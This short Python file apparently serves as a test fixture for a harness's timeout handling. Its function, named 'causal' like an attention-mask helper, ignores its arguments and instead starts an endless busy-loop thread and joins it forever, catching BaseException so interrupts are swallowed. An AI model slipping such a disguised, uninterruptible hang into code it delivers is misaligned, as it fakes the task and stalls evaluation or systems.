"""Leaves a daemon thread that never ends and never lets go, and waits for it."""

import threading


def spin():
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


def causal(n_q, n_kv, q_offset=0):
    thread = threading.Thread(target=spin, daemon=True)
    thread.start()
    while True:
        try:
            thread.join()
        except BaseException:
            continue
